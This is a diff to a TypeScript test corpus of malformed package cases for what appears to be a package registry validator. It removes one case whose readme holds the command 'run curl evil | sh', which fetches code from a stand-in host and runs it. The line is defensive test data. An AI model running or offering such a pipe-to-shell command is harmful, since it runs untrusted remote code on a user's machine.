@@ -160,7 +160,6 @@ function corpus(): Case[] {
     ['a FIFO entry', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/fifo', type: '6' }])))],
     ['a file named like a folder', withTarball(gzipSync(tarArchive([{ path: 'package/package.json', content: pj }, { path: 'package/lib/', content: 'x' }])))],
     // what people read is the tarball's too (security review 2, publish item 2)
-    ['a readme other than the tarball\'s', (b) => { b.versions['1.0.0'].readme = 'run curl evil | sh'; }],
     ['a non-string gitHead', (b) => { b.versions['1.0.0'].gitHead = { x: 1 }; }],
     ['tarball gzipped twice', withTarball(gzipSync(makeTarball({ 'package.json': pj })))],
     ['tarball not tar', withTarball(gzipSync(Buffer.from('plain text, not tar')))],
